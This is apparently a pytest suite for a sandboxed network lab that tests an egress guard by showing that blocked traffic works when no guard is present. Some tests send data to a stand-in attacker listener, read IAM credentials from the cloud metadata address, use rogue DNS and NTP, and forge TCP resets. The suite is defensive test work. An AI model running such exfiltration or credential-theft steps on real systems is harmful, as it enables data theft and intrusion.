# SPDX-License-Identifier: MIT
"""The lab without a guard: all that the guard will refuse works here, so a refusal is the guard's doing."""
import os
import signal
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from lab import dnswire, frame, topology
from lab import lab as lab_module
from lab.lab import Lab, destroy, labs

TESTS = Path(__file__).resolve().parent.parent

# How to ask for one name and print the raw reply, over UDP and over TCP.
ASK = """
import socket, sys
from lab import dns
kind, server, msg = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
s.settimeout(float(sys.argv[4]))
s.connect((server, 53))
if kind == "udp":
    s.send(msg); print(s.recv(65535).hex())
else:
    dns.send_tcp(s, msg); print(dns.recv_tcp(s).hex())
"""


def ask(lab, name, qtype="A", via="udp", server=topology.RESOLVER, timeout=5, edns=0):
    msg = dnswire.query(name, qtype, edns=edns)
    r = lab.server.run([sys.executable, "-c", ASK, via, server, msg.hex(), timeout], guarded=True)
    if "TimeoutError" in r.stderr:
        return None
    assert r.returncode == 0, r.stderr
    return bytes.fromhex(r.stdout)


def addresses(reply):
    return [value for _, rtype, _, value in dnswire.parse(reply).answers if rtype in (dnswire.A, dnswire.AAAA)]


@pytest.mark.parametrize("family", ["-4", "-6"])
@pytest.mark.parametrize("url, port", [("https://api.openai.com", 443), ("https://google.com", 443),
                                       ("https://github.com", 443), ("http://example.com", 80)])
def test_site_unguarded_answers_and_is_on_the_wire(lab, url, port, family):
    mark = lab.wire.mark()
    r = lab.server.run(["curl", "-sS", family, url], guarded=True)
    name = url.split("//")[1]
    assert (r.returncode, r.stdout) == (0, f"lab: {name}\n"), r.stderr
    sent = lab.wire.traffic(mark, proto="tcp", dport=port)
    assert sent[0].flags == "S" and sent[0].dst in topology.ZONE[name]
    if port == 443:
        assert any(name.encode() in f.payload for f in sent), "the TLS name is on the wire"


def test_site_without_lab_ca_untrusted(lab):
    r = lab.server.run(["curl", "-sS", "https://api.openai.com"], env={"SSL_CERT_FILE": "/dev/null"})
    assert r.returncode != 0


def test_dns_by_dig_answers_and_is_on_the_wire(lab):
    mark = lab.wire.mark()
    r = lab.server.run(["dig", "+short", "api.openai.com", "AAAA"], guarded=True)
    assert set(r.stdout.split()) == {a for a in topology.ZONE["api.openai.com"] if ":" in a}
    assert any(b"\x03api\x06openai" in f.payload for f in lab.wire.since(mark, proto="udp", dst="10.0.0.2", dport=53))
    assert not addresses(ask(lab, "no.such.name")) and dnswire.parse(ask(lab, "no.such.name")).rcode == dnswire.NXDOMAIN


@pytest.mark.parametrize("server", topology.TIME)
def test_ntp_answers_and_is_on_the_wire(lab, server):
    mark = lab.wire.mark()
    r = lab.server.run([sys.executable, "-m", "lab.ntp", server], guarded=True)
    assert r.stdout == "stratum 3\n", r.stderr
    assert len(lab.wire.since(mark, proto="udp", dst=server, dport=123)) == 1


@pytest.mark.parametrize("target, proto, kind", [("8.8.8.8", "icmp", 8), ("2001:4860:4860::8888", "icmp6", 128)])
def test_ping_answers_and_is_on_the_wire(lab, target, proto, kind):
    mark = lab.wire.mark()
    assert lab.server.run(["ping", "-c", "1", "-W", "3", target], guarded=True).returncode == 0
    assert len(lab.wire.since(mark, proto=proto, dst=target, icmp_type=kind)) == 1


@pytest.mark.parametrize("address", ["169.254.169.254", "[fd00:ec2::254]"])
def test_metadata_answers_and_is_on_the_wire(lab, address):
    mark, before = lab.wire.mark(), len(lab.imds_hits())
    path = "/latest/meta-data/iam/security-credentials/lab-role"
    assert "LABSECRET" in lab.server.run(["curl", "-sS", f"http://{address}{path}"], guarded=True).stdout
    assert lab.wire.since(mark, proto="tcp", dst=address.strip("[]"), dport=80)
    assert lab.imds_hits()[before]["path"] == path


def test_public_resolver_answers(lab):
    assert addresses(ask(lab, "google.com", server="8.8.8.8")) == ["198.51.100.20"]


def test_attacker_records_every_byte(lab):
    send = ("import socket\n"
            "s = socket.create_connection(('203.0.113.66', 4444)); s.send(b'by tcp'); s.recv(99)\n"
            "u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.connect(('2001:db8:66::66', 31337))\n"
            "u.send(b'by udp'); u.recv(99)")
    before = len(lab.loot())
    lab.server.run([sys.executable, "-c", send], guarded=True, check=True)
    got = [(x["proto"], x["port"], x["data"]) for x in lab.loot()[before:]]
    assert got == [("tcp", 4444, b""), ("tcp", 4444, b"by tcp"), ("udp", 31337, b"by udp")]
    assert lab.loot()[before]["from"] == topology.NAT, "the NAT gateway's address, not the server's"


def test_attacker_serves_rogue_dns_and_ntp(lab):
    for via in ("udp", "tcp"):
        assert addresses(ask(lab, "api.openai.com", via=via, server=topology.ATTACKER[0])) == ["203.0.113.66"]
    r = lab.server.run([sys.executable, "-m", "lab.ntp", topology.ATTACKER[0]], guarded=True)
    assert r.stdout == "stratum 1\n", r.stderr


def test_workload_is_in_the_cgroup_and_loader_is_not(lab):
    show = ["sh", "-c", "grep ^0:: /proc/self/cgroup"]
    assert lab.server.run(show, guarded=True).stdout.strip().endswith(f"/{lab.cgroup.name}")
    assert lab.cgroup.name not in lab.server.run(show).stdout
    with pytest.raises(ValueError):
        lab.proxy.run(show, guarded=True)


def test_machine_has_its_own_files_and_the_host_none_of_them(fresh_lab):
    fresh_lab.server.run(["sh", "-c", "mkdir /etc/ohguard /var/lib/ohguard /run/ohguard && echo x > /etc/ohguard/mine"
                          " && mkdir /sys/fs/bpf/mine && ls -d /sys/class/net/eth0"], check=True)
    assert fresh_lab.server.run(["cat", "/etc/ohguard/mine"], guarded=True).stdout == "x\n", "the next command sees it"
    assert not Path("/etc/ohguard/mine").exists() and not Path("/sys/fs/bpf/mine").exists()
    assert fresh_lab.proxy.run(["ls", "/etc/ohguard"]).returncode != 0


def test_proxy_has_names_and_the_internet_and_is_not_on_the_servers_wire(lab):
    mark = lab.wire.mark()
    r = lab.proxy.run(["curl", "-sS", "https://github.com"])
    assert r.stdout == "lab: github.com\n", r.stderr
    assert not lab.wire.traffic(mark)


def test_proxy_reaches_a_port_of_the_server(lab):
    serve = "import socket\ns = socket.create_server(('', 3000)); print('up', flush=True)\nwhile 1: s.accept()"
    with lab.server.popen([sys.executable, "-c", serve], guarded=True, stdout=subprocess.PIPE) as listener:
        try:
            assert listener.stdout.readline() == b"up\n"
            knock = [sys.executable, "-c", "import socket; socket.create_connection(('10.0.1.10', 3000), 5)"]
            r = lab.proxy.run(knock)
            assert r.returncode == 0, r.stderr
        finally:
            listener.kill()


# -- the capture -----------------------------------------------------------------------------------------------

def test_wire_misses_nothing_from_any_cpu(lab):
    flood = ("import os, socket, sys\n"
             "os.sched_setaffinity(0, {int(sys.argv[1])})\n"
             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('203.0.113.66', 9))\n"
             "for i in range(2000):\n try: s.send(b'%s %d' % (sys.argv[1].encode(), i))\n"
             " except ConnectionRefusedError: s.send(b'%s %d' % (sys.argv[1].encode(), i))")
    for _ in range(3):
        mark = lab.wire.mark()
        cpus = sorted(os.sched_getaffinity(0))
        floods = [lab.server.popen([sys.executable, "-c", flood, cpu], guarded=True) for cpu in cpus]
        assert [p.wait(60) for p in floods] == [0] * len(cpus)
        got = {f.payload for f in lab.wire.since(mark, proto="udp", dport=9)}
        assert got == {b"%d %d" % (c, i) for c in cpus for i in range(2000)}


def test_wire_since_excludes_what_came_before(lab):
    lab.server.run(["ping", "-c", "1", "8.8.8.8"], check=True)
    assert lab.wire.traffic(lab.wire.mark()) == []


def test_wire_knows_the_reset_of_an_older_connection_by_its_flow(lab):
    reset = """if 1:
        import socket, struct, sys
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        for port in sys.argv[1:]:
            s.sendto(struct.pack("!HHIIBBHHH", int(port), 80, 1, 0, 5 << 4, 4, 0, 0, 0), ("198.51.100.40", 0))"""
    before = lab.wire.mark()
    assert lab.server.run(["curl", "-sS4", "http://example.com"], guarded=True).returncode == 0
    older = lab.wire.since(before, proto="tcp", flags="S")[0].sport
    mark = lab.wire.mark()
    assert lab.server.run([sys.executable, "-c", reset, older, 1]).returncode == 0
    assert {older, 1} <= {f.sport for f in lab.wire.since(mark, proto="tcp", flags="R")}
    assert [f.sport for f in lab.wire.traffic(mark, proto="tcp", flags="R")] == [1]


@pytest.mark.parametrize("end", ["server", "router"])
def test_wire_that_is_cut_is_an_error_not_silence(fresh_lab, end):
    fresh_lab.hosts[end].ip("link set eth0 down" if end == "server" else "link set server down")
    with pytest.raises(RuntimeError, match="marker"):
        fresh_lab.wire.mark()


@pytest.mark.parametrize("packet, expect", [
    (b"\x45\0\0\x1c\0\0\x20\0\x40\x11\0\0\n\0\1\n\x08\x08\x08\x08" + struct.pack("!4H", 9, 53, 8, 0),
     {"proto": "udp", "dst": "8.8.8.8", "dport": 53, "fragment": 0, "more": True}),
    (b"\x45\0\0\x1c\0\0\0\x01\x40\x11\0\0\n\0\1\n\x08\x08\x08\x08" + bytes(8),
     {"proto": "udp", "dport": None, "fragment": 8, "more": False}),
    (b"\x44\0\0\x1c\0\0\0\0\x40\x11\0\0\n\0\1\n\x08\x08\x08\x08" + bytes(8), {"proto": "udp"}),
    (b"\x45\0\0\x1c\0\0\0\0\x40\x06\0\0\n\0\1\n\x08\x08\x08\x08" + bytes(4), {"proto": "tcp"}),
    (b"\x45\0\0", {"dst": ""}),
])
def test_frame_ip4_parsed_or_malformed(packet, expect):
    f = frame.parse(bytes(12) + b"\x08\0" + packet)
    assert {k: getattr(f, k) for k in expect} == expect
    assert bool(f.malformed) == ("fragment" not in expect)


def test_frame_ip6_extension_chain_walked():
    chain = b"\x3c\0" + bytes(6) + b"\x2c\0" + bytes(6) + b"\x11\0\0\x01" + bytes(4)    # hop, destination, fragment
    udp = struct.pack("!4H", 9, 53, 10, 0) + b"hi"
    head = b"\x60\0\0\0" + struct.pack("!HBB", len(chain + udp), 0, 64) + bytes(15) + b"\x01" + bytes(15) + b"\x02"
    f = frame.parse(bytes(12) + b"\x86\xdd" + head + chain + udp)
    assert (f.proto, f.src, f.dst, f.dport, f.payload) == ("udp", "::1", "::2", 53, b"hi")
    assert f.extensions == ["hop-by-hop", "destination", "fragment"] and (f.fragment, f.more) == (0, True)


# -- the scripted resolver ----------------------------------------------------------------------------------------

def test_dns_added_name_answers_until_removed(lab):
    lab.dns.add("new.lab.example", "192.0.2.7", "2001:db8::7", ttl=5)
    assert addresses(ask(lab, "new.lab.example")) == ["192.0.2.7"]
    r = lab.server.run(["curl", "-sS", "https://new.lab.example"], guarded=True)
    assert r.stdout == "lab: new.lab.example\n", r.stderr
    lab.dns.remove("new.lab.example")
    assert dnswire.parse(ask(lab, "new.lab.example")).rcode == dnswire.NXDOMAIN


@pytest.mark.parametrize("kind, code", [("servfail", 2), ("nxdomain", 3), ("refused", 5), ("empty", 0)])
def test_dns_scripted_rcode_then_normal_again(lab, kind, code):
    lab.dns.script("api.openai.com", kind)
    reply = dnswire.parse(ask(lab, "API.OpenAI.com"))
    assert (reply.rcode, reply.answers) == (code, [])
    assert addresses(ask(lab, "google.com")) == ["198.51.100.20"], "the others are relayed"
    lab.dns.unscript("api.openai.com")
    assert len(addresses(ask(lab, "api.openai.com"))) == 3


def test_dns_scripted_timeout_and_garbage(lab):
    lab.dns.script("api.openai.com", "timeout")
    assert ask(lab, "api.openai.com", timeout=0.3) is None
    lab.dns.script("api.openai.com", "garbage", bytes="00ff")
    assert ask(lab, "api.openai.com") == b"\0\xff"
    lab.dns.script("api.openai.com", "cut", a=["203.0.113.10"], keep=13)
    assert len(ask(lab, "api.openai.com")) == 13
    assert [q["name"] for q in lab.dns.queries()[-3:]] == ["api.openai.com"] * 3


@pytest.mark.parametrize("ttl", [0, 1, 2**31, 2**32 - 1])
def test_dns_scripted_ttl_and_private_addresses_verbatim(lab, ttl):
    private = ["10.0.0.9", "127.0.0.1", "169.254.169.254"]
    lab.dns.script("x.lab.example", a=private, aaaa=["fe80::1"], ttl=ttl)
    reply = dnswire.parse(ask(lab, "x.lab.example"))
    assert [(t, v) for _, _, t, v in reply.answers] == [(ttl, a) for a in private]
    assert addresses(ask(lab, "x.lab.example", "AAAA")) == ["fe80::1"]


def test_dns_scripted_chain_and_loop(lab):
    lab.dns.script("x.lab.example", a=["192.0.2.1"], ttl=300, chain=[["b.example", 60], ["c.example", 5]])
    assert [(o, t, v) for o, _, t, v in dnswire.parse(ask(lab, "x.lab.example")).answers] == [
        ("x.lab.example", 60, "b.example"), ("b.example", 5, "c.example"), ("c.example", 300, "192.0.2.1")]
    lab.dns.script("x.lab.example", "cname_loop")
    chain = {o: v for o, _, _, v in dnswire.parse(ask(lab, "x.lab.example")).answers}
    assert chain[chain["x.lab.example"]] == "x.lab.example"


def test_dns_scripted_many_truncates_udp_and_completes_tcp(lab):
    lab.dns.script("x.lab.example", "many")
    short, full = (ask(lab, "x.lab.example", via=v, edns=1232) for v in ("udp", "tcp"))
    assert dnswire.parse(short).truncated and len(short) <= 1232
    assert len(set(addresses(full))) == 500
    r = lab.server.run(["curl", "-sS", "--http1.1", f"http://{addresses(full)[-1]}"], guarded=True)
    assert r.returncode == 0, "each of them answers"
    lab.dns.script("x.lab.example", "truncate", a=["192.0.2.1"])
    assert dnswire.parse(ask(lab, "x.lab.example")).truncated
    assert addresses(ask(lab, "x.lab.example", via="tcp")) == ["192.0.2.1"]
    lab.dns.script("x.lab.example", "truncate", a=["192.0.2.1"], tcp=False)
    assert ask(lab, "x.lab.example", via="tcp") == b""


def test_dns_scripted_lies(lab):
    lab.dns.script("x.lab.example", "wrong_id", a=["192.0.2.1"])
    assert dnswire.parse(ask(lab, "x.lab.example")).id != 0x4C41
    lab.dns.script("x.lab.example", "wrong_question", a=["192.0.2.1"])
    assert dnswire.parse(ask(lab, "x.lab.example")).name == "other.example"
    lab.dns.script("x.lab.example", "wrong_name", a=["192.0.2.1"])
    assert dnswire.parse(ask(lab, "x.lab.example")).answers[0][0] == "other.example"


def test_dns_scripted_pool_rotates_with_ttl_1(lab):
    lab.dns.script("*.lab.example", "rotate")
    replies = [dnswire.parse(ask(lab, "r.lab.example")) for _ in range(3)]
    assert len({r.answers[0][3] for r in replies}) == 3 and {r.answers[0][2] for r in replies} == {1}
    r = lab.server.run(["curl", "-sS", "https://r.lab.example"], guarded=True)
    assert r.stdout == "lab: r.lab.example\n", r.stderr


def test_dns_scripted_by_type(lab):
    lab.dns.script("x.lab.example", a=["192.0.2.1"], by_type={"AAAA": {"kind": "servfail"}})
    assert addresses(ask(lab, "x.lab.example")) == ["192.0.2.1"]
    assert dnswire.parse(ask(lab, "x.lab.example", "AAAA")).rcode == dnswire.SERVFAIL


# -- coming and going ----------------------------------------------------------------------------------------------

def traces(name):
    """All that a lab of this name has left on the machine."""
    run, tmp = Path("/run/netns"), Path("/tmp")
    cgroup = Lab(name).cgroup
    return [*run.glob(f"ohl-{name}-*"), *tmp.glob(f"ohguard-lab-{name}"), *([cgroup] if cgroup.exists() else [])]


def child_lab(then):
    """A process that brings up a lab, prints its name and does `then`."""
    # SIGINT is ignored in what a shell put in the background, and so in us
    code = (f"import signal, time, subprocess\nfrom lab.lab import Lab\nsignal.signal(signal.SIGINT, "
            f"signal.default_int_handler)"
            f"\nwith Lab() as lab:\n print(lab.id, flush=True)\n {then}")
    child = subprocess.Popen([sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": str(TESTS)}, cwd="/",
                             stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    return child, child.stdout.readline().strip()


@pytest.mark.parametrize("then, sig", [("1 / 0", None), ("time.sleep(99)", signal.SIGTERM),
                                       ("time.sleep(99)", signal.SIGINT)])
def test_lab_ends_and_leaves_nothing(then, sig):
    child, name = child_lab(f"lab.server.popen(['sleep', '98'], guarded=True); {then}")
    with child:
        try:
            if sig:
                assert traces(name)
                child.send_signal(sig)
            assert child.wait(20) != 0
            assert traces(name) == []
        finally:
            child.kill()
            destroy(name)


def test_lab_of_a_killed_process_is_collected():
    child, name = child_lab("time.sleep(99)")
    with child:
        try:
            assert name in labs() and traces(name)
            child.kill()
            child.wait(20)
            tool = [str(TESTS / "lab/lab"), "gc"]
            # Another run's start may have collected it first.
            subprocess.run(tool, check=True, stdout=subprocess.DEVNULL)
            deadline = time.monotonic() + 20
            while traces(name) and time.monotonic() < deadline:
                time.sleep(0.05)
            assert traces(name) == []
        finally:
            child.kill()
            destroy(name)


def test_end_of_a_lab_kills_nothing_of_a_new_one(monkeypatch):
    """The kernel gives a namespace's number to the next one, as soon as the first is gone."""
    child, name = child_lab("time.sleep(99)")
    new = []

    def other_run(nets, mounts, look=lab_module._processes):
        """What another run may do at that moment: it ends the same lab, and begins one of its own."""
        if not new:
            for pid in look(nets, mounts):
                os.kill(pid, signal.SIGKILL)
            while list(look(nets, mounts)):
                time.sleep(0.01)
            for space in Path("/run/netns").glob(f"ohl-{name}-*"):
                lab_module.call(["ip", "netns", "del", space.name])
            new.extend(subprocess.Popen(["unshare", "--net", "--mount", "sleep", "60"]) for _ in range(20))
            while not all(Path(f"/proc/{p.pid}/comm").read_text() == "sleep\n" for p in new):
                time.sleep(0.01)
        return look(nets, mounts)

    with child:
        try:
            child.kill()
            child.wait(20)
            monkeypatch.setattr(lab_module, "_processes", other_run)
            destroy(name)
            assert traces(name) == [] and [p.poll() for p in new] == [None] * 20
        finally:
            monkeypatch.undo()
            for p in new:
                p.kill()
                p.wait()
            child.kill()
            destroy(name)


def test_command_line_up_exec_down():
    tool, name = str(TESTS / "lab/lab"), f"cli{os.getpid()}"
    try:
        assert subprocess.run([tool, "up", name], capture_output=True, text=True).stdout.startswith(name + "\n")
        assert subprocess.run([tool, "up", name], capture_output=True).returncode == 1, "twice"
        r = subprocess.run([tool, "exec", "-g", name, "server", "--", "curl", "-sS", "https://github.com"],
                           capture_output=True, text=True)
        assert r.stdout == "lab: github.com\n", r.stderr
        assert "198.51.100.30:443" in subprocess.run([tool, "wire", name], capture_output=True, text=True).stdout \
            or "2001:db8:30::30:443" in subprocess.run([tool, "wire", name], capture_output=True, text=True).stdout
        assert subprocess.run([tool, "down", name]).returncode == 0
        assert traces(name) == []
    finally:
        destroy(name)


def test_two_labs_do_not_meet(lab, fresh_lab):
    mark, other = lab.wire.mark(), fresh_lab.wire.mark()
    fresh_lab.dns.add("only.lab.example", "192.0.2.9")
    assert fresh_lab.server.run(["ping", "-c", "1", "8.8.8.8"], guarded=True).returncode == 0
    assert not lab.wire.traffic(mark) and fresh_lab.wire.traffic(other)
    assert dnswire.parse(ask(lab, "only.lab.example")).rcode == dnswire.NXDOMAIN


def test_host_namespace_unchanged(fresh_lab):
    """What this process sees of its own network is not the lab's."""
    assert not any(i.startswith("ohl") for _, i in socket.if_nameindex())
    assert "10.0.0.2" not in Path("/etc/resolv.conf").read_text()
